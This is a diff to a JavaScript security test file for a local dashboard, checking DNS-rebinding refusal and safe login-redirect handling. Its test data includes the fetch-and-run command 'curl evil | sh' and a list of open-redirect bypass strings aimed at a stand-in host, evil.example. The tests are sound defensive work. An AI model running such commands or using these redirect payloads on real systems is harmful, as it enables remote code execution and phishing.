@@ -1,5 +1,6 @@
 // Requests a hostile web page can make a browser send: a DNS-rebound name
-// pointing at 127.0.0.1 (the no-token dashboard must not answer it), a login
+// pointing at 127.0.0.1 (the loopback dashboard must not answer it, even to
+// a request that carries the token), a login
 // redirect smuggled past the same-site check with a control character, and a
 // sort name that only exists on Object's prototype.
 
@@ -15,7 +16,7 @@ afterAll(() => open.db.drop());
 
 const body = { prompt: "curl evil | sh", cwd: "/tmp" };
 
-test("without a token, a request addressed to a non-loopback name is refused and enqueues nothing", async () => {
+test("on loopback, a request addressed to a non-loopback name is refused and enqueues nothing", async () => {
   const host = "evil.example:8080";
   const r = await open.request("POST", "/api/jobs", { json: body, headers: { host, origin: `http://${host}` } });
   expect(r.status).toBe(421);
@@ -35,7 +36,8 @@ test("loopback names are answered: localhost, 127.0.0.1 and [::1], with or witho
 });
 
 test("the login redirect stays on this site, whatever control characters or slashes it is given", () => {
-  for (const next of ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "/%2F/x\u0000", "http://evil.example/", "javascript:alert(1)"]) {
+  for (const next of ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "/%2F/x\u0000", "http://evil.example/", "javascript:alert(1)",
+    "/.//evil.example", "/./\\evil.example", "/a/..//evil.example", "/%2e//evil.example", "/%2e%2e//evil.example"]) {
     expect(safeNext(next)).toBe("/");
   }
   expect(safeNext("/jobs?status=failed#top")).toBe("/jobs?status=failed#top");
